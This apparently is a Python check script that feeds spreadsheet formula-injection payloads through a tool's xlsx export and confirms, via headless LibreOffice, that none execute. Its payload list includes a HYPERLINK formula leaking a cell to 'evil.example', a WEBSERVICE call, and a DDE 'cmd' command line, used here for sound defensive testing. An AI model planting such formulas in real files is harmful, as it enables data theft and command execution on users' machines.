"""Open a hostile results.xlsx in LibreOffice (headless) and check that no formula ran.

    .venv/bin/python scripts/libreoffice_check.py

Needs `soffice` (Debian: `apt-get install libreoffice-calc`); kept out of the test suite because
LibreOffice is big and not on every machine. It writes an input whose Notes column holds
formula payloads, runs `bulk-assign validate --format xlsx` on it, has LibreOffice convert the
workbook's Results and Failed sheets to CSV, and compares every cell with what was typed: a
formula that ran would show its result ("2", "click me") instead of its text.
Exit 0: every value came out as typed; 1: a difference (printed); 2: no LibreOffice.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from bulk_assign.commands.validate import validate_command

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=1+1",
    "@SUM(1,1)",
    "+1+1",
    "-1+3",
    "+cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example\")",
    "\t=1+1",
    "\n=1+1",
    "#N/A",
    "00123",
    "+44 20 7946 0001",
    "2024-01-02",
    "1e5",
]
HEADER = ["Identifier", "Email", "FirstName", "LastName", "Phone", "Notes"]


def main() -> int:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        print("no LibreOffice (soffice) on this machine: nothing checked")
        return 2
    with tempfile.TemporaryDirectory(prefix="bulk-assign-lo-") as tmp:
        work = Path(tmp)
        source = work / "hostile.csv"
        with source.open("w", encoding="utf-8", newline="") as fh:
            writer = csv.writer(fh)
            writer.writerow(HEADER)
            for i, payload in enumerate(PAYLOADS):
                writer.writerow([f"O{1000 + i}", f"a{i}@example.com", "Ana", "Silva",
                                 "+15550100199" if i % 2 else payload, payload])
        out = work / "out"
        validate_command(input_path=source, catalog="Sandbox", out=out, output_format="xlsx",
                         stdout=io.StringIO())
        problems = []
        for number, sheet in ((1, "Results"), (2, "Failed")):
            got = _converted(soffice, out / "results.xlsx", work, sheet=number)
            wanted = _our_csv(out / ("results.csv" if sheet == "Results" else "failed.csv"))
            problems += [f"{sheet} row {r + 1}: LibreOffice shows {g!r}, typed {w!r}"
                         for r, (g, w) in enumerate(zip(got, wanted, strict=True)) if g != w]
            print(f"{sheet}: {len(got) - 1} rows compared")
        for line in problems:
            print(line)
        print("every value came out as typed" if not problems else f"{len(problems)} differences")
        return 1 if problems else 0


def _converted(soffice: str, book: Path, work: Path, *, sheet: int) -> list[list[str]]:
    """The sheet as LibreOffice exports it to CSV (UTF-8, every cell quoted)."""
    target = work / f"lo-{sheet}"
    target.mkdir()
    options = f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,{sheet}"
    subprocess.run(
        [soffice, f"-env:UserInstallation=file://{work}/profile", "--headless", "--convert-to",
         options, "--outdir", str(target), str(book)],
        check=True, capture_output=True, timeout=300,
    )
    (produced,) = target.glob("*.csv")
    with produced.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _our_csv(path: Path) -> list[list[str]]:
    from bulk_assign.sheet.cells import unescape

    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [[unescape(c) for c in line] for line in csv.reader(fh)]


if __name__ == "__main__":
    sys.exit(main())
